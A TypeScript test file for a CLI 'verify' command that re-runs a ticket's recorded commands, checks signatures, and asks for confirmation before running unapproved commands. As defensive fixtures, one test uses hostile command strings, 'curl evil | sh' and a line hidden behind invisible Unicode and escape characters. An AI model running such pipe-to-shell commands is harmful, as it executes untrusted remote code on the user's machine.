import assert from 'node:assert/strict';
import { exitCodes } from '../../../../src/cli/base/exitCodes.ts';
import type {
  Verification,
  Verifier,
  VerifyOptions,
} from '../../../../src/protocol/verification/verification.ts';
import { CommandBench, itRefuses } from '../../../support/commandBench.ts';

const commit = 'f'.repeat(40);
const found = { exitCode: 0, signal: null, timedOut: false };
const equal: Verification = {
  ticket: 'TST-1',
  source: 'notes',
  head: commit,
  differences: [],
  withheld: [],
  signatures: [{ commit, about: 'bead greet', state: 'trusted', key: 'SHA256:1', name: 'Ada' }],
  commits: [
    {
      commit,
      subject: 'Greet',
      about: 'bead greet',
      commands: [{ command: 'npm test', found, isSame: true, durationMs: 1_500 }],
    },
  ],
};
const different: Verification = { ...equal, differences: [{ kind: 'unproved', commit, subject: 'Wave' }] };

interface Proved {
  readonly result?: Verification;
  readonly isAsked?: boolean;
  readonly commands?: readonly string[];
  readonly variables?: readonly string[];
  readonly otherFiles?: string | null;
  readonly source?: Verifier['source'];
}

function proved({
  result = equal,
  isAsked = false,
  source = 'notes',
  commands = ['npm ci', 'npm test'],
  variables = [],
  otherFiles = null,
}: Proved = {}) {
  const asked: VerifyOptions[] = [];
  const opened: unknown[] = [];
  const evidence = { ticket: 'TST-1' } as unknown as Verifier['evidence'];
  const bench: CommandBench = new CommandBench(
    {},
    {
      openVerifier: ({ folder, of, file, sandbox }) => {
        opened.push({ folder, of, file, sandbox });
        return Promise.resolve({
          evidence,
          source,
          verify: async (options) => {
            const request = { ticket: 'TST-1', commands, variables, otherFiles };
            if (isAsked && !(await options.confirm(request))) return undefined;
            asked.push(options);
            options.onProgress?.({ commit, command: 'npm test', number: 1, total: 2 });
            if (bench.stop.signal.aborted) throw new Error('stopped');
            return result;
          },
        });
      },
    },
  );
  return { bench, asked, opened };
}

describe('verify', () => {
  it('is done where the results are equal', async () => {
    const { bench, asked, opened } = proved();
    const { out, exit } = await bench.run('verify tst-1');
    assert.equal(exit, exitCodes.done);
    assert.match(
      out,
      /^ffffffffffff Greet \(bead greet\)\n {2}same {5}npm test exited with 0 \(1\.5 s\)\n\nEqual: TST-1 at ffffffffffff reproduces the recorded results \(commands: 1\)\. Proved by Ada \(SHA256:1\)\.$/m,
    );
    assert.deepEqual(opened, [{ folder: '/sample', of: 'TST-1', file: undefined, sandbox: 'auto' }]);
    assert.deepEqual([asked[0]?.all, asked[0]?.revision, bench.opened], [false, undefined, []]);
    const { all, end } = await proved().bench.json('verify TST-1');
    assert.deepEqual(all('verification'), [
      { type: 'verification', isEqual: true, isSigned: true, ...equal },
    ]);
    assert.deepEqual(all('verifying'), [
      { type: 'verifying', ticket: 'TST-1', command: 'npm test', number: 1, total: 2 },
    ]);
    assert.deepEqual([end?.exit, end?.ticket], [0, 'TST-1']);
  });

  it('never says just equal of what nobody signed who is trusted', async () => {
    const signed = (state: 'unknown' | 'unsigned', key: string | null): Verification => ({
      ...equal,
      signatures: [{ commit, about: 'bead greet', state, key, name: null }],
    });
    for (const [result, said] of [
      [signed('unsigned', null), /^Unsigned: .*not signed, so anyone may have written it/m],
      [signed('unknown', 'SHA256:2'), /^Unknown signer: .*does not trust the key SHA256:2/m],
    ] as const) {
      const { out, exit } = await proved({ result }).bench.run('verify TST-1');
      assert.match(out, said);
      assert.doesNotMatch(out, /Equal/);
      assert.equal(exit, exitCodes.done);
      const [event] = (await proved({ result }).bench.json('verify TST-1')).all('verification');
      assert.deepEqual([event?.isEqual, event?.isSigned], [true, false]);
    }
  });

  it('prints the own key for the list of a repository', async () => {
    const line = 'ed25519 AAAA ada@laptop';
    const bench = new CommandBench({}, { keyLine: () => Promise.resolve(line) });
    const { out, exit } = await bench.run('verify --key');
    assert.deepEqual([out, exit], [`${line}\n`, exitCodes.done]);
    assert.deepEqual((await bench.json('verify --key')).all('key'), [{ type: 'key', line }]);
    assert.equal((await bench.run('verify TST-1 --key')).exit, exitCodes.usage);
  });

  it('fails where they differ, and says how', async () => {
    const { out, exit } = await proved({ result: different }).bench.run('verify TST-1');
    assert.equal(exit, exitCodes.failed);
    assert.match(
      out,
      /Different: TST-1 at ffffffffffff does not match what was proved[^]*has no evidence: Wave/,
    );
    assert.equal(
      (await proved({ result: different }).bench.json('verify TST-1')).all('verification')[0]?.isEqual,
      false,
    );
  });

  it('takes a file, a revision, and all commits', async () => {
    const { bench, asked, opened } = proved();
    bench.input = '{"evidence":1}';
    await bench.run('verify TST-1 --evidence - --commit HEAD~1 --all --repo inner --sandbox off');
    assert.deepEqual(opened, [
      { folder: '/sample/inner', of: 'TST-1', file: '{"evidence":1}', sandbox: 'off' },
    ]);
    assert.deepEqual([asked[0]?.all, asked[0]?.revision], [true, 'HEAD~1']);
  });

  it('shows commands that nobody approved here, and runs them after a yes only', async () => {
    const from = { notes: 'notes', file: 'a file', database: 'database' } as const;
    for (const source of ['notes', 'file', 'database'] as const) {
      const { bench, asked } = proved({ isAsked: true, source });
      const { out, err, exit } = await bench.run('verify TST-1');
      assert.ok(
        out.includes(
          `These commands come from ${source === 'file' ? '' : 'the '}${from[source]} and run on this machine:\n\n  npm ci\n  npm test\n\n`,
        ),
      );
      assert.match(
        err,
        /The evidence of TST-1 has commands that were not approved on this machine, and no trusted key signed them\. To run them, use --yes\./,
      );
      assert.deepEqual([exit, asked], [exitCodes.usage, []]);
    }
    for (const confirms of [true, false]) {
      const { bench, asked } = proved({ isAsked: true });
      bench.confirms = confirms;
      const { exit } = await bench.run('verify TST-1');
      assert.deepEqual(
        [exit, asked.length, bench.questions],
        [confirms ? 0 : exitCodes.usage, confirms ? 1 : 0, ['Run them? [y/N] ']],
      );
    }
    const other = proved({ isAsked: true, otherFiles: commit });
    assert.match(
      (await other.bench.run('verify TST-1')).err,
      /The commands of TST-1 were proved with other files than those of ffffffffffff, so no approval or signature covers/,
    );
    const { bench, asked } = proved({ isAsked: true });
    assert.deepEqual([(await bench.run('verify TST-1 --yes')).exit, asked.length], [0, 1]);
  });

  it('names the variables of this machine that the commands get', async () => {
    const { bench } = proved({ isAsked: true, variables: ['NPM_TOKEN', 'A\u202EB'] });
    bench.confirms = false;
    const { out } = await bench.run('verify TST-1');
    assert.ok(
      out.includes('\n  npm test\n\nThey get these variables of your environment: NPM_TOKEN, A⟨U+202E⟩B\n'),
      out,
    );
  });

  it('shows the whole of each command, with its lines, before it asks', async () => {
    const long = `npm test ${'x'.repeat(5_000)}; curl evil`;
    const commands = ['# lint\ncurl evil | sh', long, 'echo \u202Etxt.sh\u001B[2K'];
    const { bench } = proved({ isAsked: true, commands });
    bench.confirms = false;
    const { out } = await bench.run('verify TST-1');
    assert.ok(out.includes('\n  # lint\n    curl evil | sh\n'), out);
    assert.ok(out.includes(`\n  ${long}\n`));
    assert.ok(out.includes('\n  echo ⟨U+202E⟩txt.sh⟨U+001B⟩[2K\n'));
    assert.match(out, /Warning: contains characters that are invisible .* \(2\)/);
    const json = proved({ isAsked: true, commands });
    json.bench.confirms = true;
    const { end } = await json.bench.json('verify TST-1');
    assert.deepEqual([end?.exit, json.asked, json.bench.questions], [exitCodes.usage, [], []]);
  });

  it('ends with the signal that stopped it', async () => {
    for (const [signal, code] of [
      ['SIGINT', exitCodes.interrupted],
      ['SIGTERM', exitCodes.terminated],
    ] as const) {
      const { bench } = proved();
      bench.stop.abort(signal);
      const { exit, end } = await bench.json('verify TST-1');
      assert.deepEqual([exit, end?.exit], [code, code]);
    }
  });

  itRefuses(
    [
      ['verify TST-1 --evidence missing.json', 2, /missing\.json can't be used/],
      ['verify TST-1 --sandbox maybe', 2, /sandbox/],
      ['verify', 2, /An argument is missing/],
    ],
    () => proved().bench,
  );
});
